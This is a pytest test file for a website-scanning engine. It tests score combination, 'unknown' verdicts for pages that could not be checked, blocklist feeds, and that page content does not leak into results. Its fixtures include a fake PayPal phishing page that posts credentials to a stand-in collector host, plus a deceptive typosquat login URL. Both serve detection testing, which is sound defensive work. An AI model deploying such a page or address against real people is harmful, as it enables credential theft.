"""How verdicts are combined, what is said of what was not seen, and that nothing of a page leaves."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.scans.engine.found import BLIND, Found, Unchecked
from app.scans.indicator import KINDS, Category
from app.scans.judgement import (
    MALICIOUS_FROM,
    MOST_REASONING,
    WEIGHTS,
    Engine,
    Engines,
    EngineVerdict,
    Judgement,
    Verdict,
    _verdict,
    combine,
    engines_of,
    judge,
    together,
    verdict_of,
)
from app.scans.observation import FetchFailure, Observation
from app.scans.url import parse_url
from app.settings import Settings
from tests.factory.observed import observed

NOW = datetime(2026, 11, 21, 12, tzinfo=UTC)
PHISHING = """<html><head><title>PayPal: Log in</title></head><body><h1>PayPal</h1><p>Your account has been limited.
</p><form action="https://collect.example/x.php" method="post"><input name="email" value="SECRET-MARK">
<input type="password" name="p">
</form></body></html>"""
HONEST = """<html><head><title>Rowing club</title></head><body><h1>Rowing club</h1><p>We row on Sundays, come and see the boats
of the club and of its members at the lake.</p><a href="/dates">Dates</a></body></html>"""


@pytest.fixture(scope="module")
def engines() -> Engines:
    found = engines_of(Settings())
    found.clock = lambda: NOW
    return found


async def judged(engines: Engines, seen: Observation) -> Judgement:
    return await judge(parse_url(seen.url), seen, engines)


def verdict(engine: Engine, *kinds: str, unchecked: Unchecked | None = None) -> EngineVerdict:
    return _verdict(engine, "test-1", Found(set(kinds), [unchecked] if unchecked else []), 0)


@given(st.lists(st.integers(0, 100), max_size=12), st.integers(0, 100))
def test_more_grounds_never_make_it_less(weights: list[int], other: int) -> None:
    score = together(weights)
    assert 0 <= score <= 100
    assert together([*weights, other]) >= score
    assert together(reversed(weights)) == score
    assert score >= max(weights, default=0)


@given(
    st.dictionaries(st.sampled_from([e for e in Engine if e is not Engine.MODEL]), st.sampled_from(sorted(KINDS)), max_size=6)
)
def test_score_can_be_repeated_from_what_is_listed(kinds: dict[Engine, str]) -> None:
    found = combine([verdict(engine, kind) for engine, kind in kinds.items()])
    assert found.score == together(v.weight * (v.score or 0) / 100 for v in found.engines)
    assert found.verdict is verdict_of(found.score)
    assert {i.kind for i in found.indicators} == set(kinds.values())


@pytest.mark.parametrize("reason", [reason for reason in Unchecked if reason in BLIND])
def test_what_was_not_seen_is_unknown_and_has_no_score(reason: Unchecked) -> None:
    found = combine([verdict(Engine.ADDRESS), verdict(Engine.PAGE, unchecked=reason)])
    assert (found.verdict, found.score) == (Verdict.UNKNOWN, None)
    assert reason in found.unchecked
    assert "not the same as harmless" in found.reasoning


async def test_page_that_steals_is_malicious_and_nothing_of_it_leaves(engines: Engines) -> None:
    found = await judged(engines, observed("https://login.example.net/a", PHISHING))
    assert found.verdict is Verdict.MALICIOUS
    assert found.categories[0] is Category.PHISHING
    assert found.form_hosts == ("collect.example",)
    assert "SECRET-MARK" not in repr(found)
    assert "limited" not in found.reasoning


async def test_honest_page_is_harmless_and_says_what_was_not_checked(engines: Engines) -> None:
    found = await judged(engines, observed("https://rowing.example.org/", HONEST))
    assert found.verdict is Verdict.HARMLESS
    assert found.score is not None
    assert found.score < 40
    assert Unchecked.NO_MODEL in found.unchecked
    assert [v.engine for v in found.engines] == list(Engine)
    model = found.engines[-1]
    assert (model.verdict, model.score, model.unchecked) == (Verdict.UNKNOWN, None, Unchecked.NO_MODEL)


@pytest.mark.parametrize(
    ("seen", "reason"),
    [
        (observed("https://a.example.org/", status=None, failure=FetchFailure.TIMED_OUT), Unchecked.UNREACHABLE),
        (observed("https://a.example.org/", status=None, failure=FetchFailure.ADDRESS_REFUSED), Unchecked.REFUSED_ADDRESS),
        (observed("https://a.example.org/", HONEST, status=404), Unchecked.ERROR_ANSWER),
        (observed("https://a.example.org/", HONEST, status=403), Unchecked.ACCESS_DENIED),
        (observed("https://a.example.org/", HONEST, truncated=True), Unchecked.TRUNCATED),
        (observed("https://a.example.org/", b"%PDF-1.7 ...", content_type="application/pdf"), Unchecked.NOT_A_PAGE),
        (observed("https://a.example.org/", b"\x89PNG\r\n\x1a\n...", content_type="text/html"), Unchecked.NOT_A_PAGE),
        (observed("https://a.example.org/", "  "), Unchecked.EMPTY),
        (observed("https://a.example.org/", "<div id=root></div><script src=/app.js></script>"), Unchecked.MADE_BY_SCRIPTS),
        (observed("https://a.example.org/", "<div>" * 5000 + "<p>deep"), Unchecked.TOO_DEEP),
        (
            observed("https://a.example.org/", '<meta http-equiv="refresh" content="0; url=https://b.example.com/x">'),
            Unchecked.LEADS_ELSEWHERE,
        ),
    ],
    ids=lambda value: value.name if isinstance(value, Unchecked) else "",
)
async def test_reasons_why_nothing_is_known(engines: Engines, seen: Observation, reason: Unchecked) -> None:
    found = await judged(engines, seen)
    assert (found.verdict, found.score) == (Verdict.UNKNOWN, None)
    assert reason in found.unchecked


async def test_address_alone_can_condemn(engines: Engines) -> None:
    address = "http://paypal.com.signin-verify.example.top/webscr?cmd=_login"
    found = await judged(engines, observed(address, status=None, failure=FetchFailure.NAME_NOT_FOUND))
    assert found.verdict is Verdict.MALICIOUS
    assert Unchecked.UNREACHABLE in found.unchecked


def test_model_alone_condemns_nobody() -> None:
    assert WEIGHTS[Engine.MODEL] < MALICIOUS_FROM


def test_reasoning_fits() -> None:
    assert len(combine([verdict(Engine.PAGE, *KINDS)]).reasoning) <= MOST_REASONING


async def test_feed_is_followed(tmp_path: Path, engines: Engines) -> None:
    file = tmp_path / "feed.txt"
    file.write_text("# date: 2026-11-20\nbad.example.org malware\nnot a line of it\n")
    own = engines_of(Settings(scan_feed=str(file)))
    own.clock = lambda: NOW
    seen = observed("https://www.bad.example.org/x/y?z=1", HONEST)
    assert (await judged(own, seen)).verdict is Verdict.MALICIOUS
    assert (await judged(own, observed("https://good.example.org/", HONEST))).verdict is Verdict.HARMLESS
    led = await judged(own, observed("https://good.example.org/", HONEST, way=["https://bad.example.org/"]))
    assert led.verdict is Verdict.MALICIOUS
    uses = HONEST.replace("</body>", '<script src="https://cdn.bad.example.org/a.js"></script></body>')
    assert "USES_KNOWN_BAD" in {i.kind for i in (await judged(own, observed("https://good.example.org/", uses))).indicators}
    file.write_text("# date: 2026-11-01\ngood.example.org/only/here\n")
    own.feed._looked = float("-inf")
    found = await judged(own, seen)
    assert found.verdict is Verdict.HARMLESS
    assert Unchecked.FEED_OLD in found.unchecked
    assert (await judged(own, observed("https://good.example.org/only/here", HONEST))).verdict is Verdict.MALICIOUS
    file.unlink()
    own.feed._looked = float("-inf")
    assert (await judged(own, observed("https://good.example.org/only/here", HONEST))).verdict is Verdict.MALICIOUS
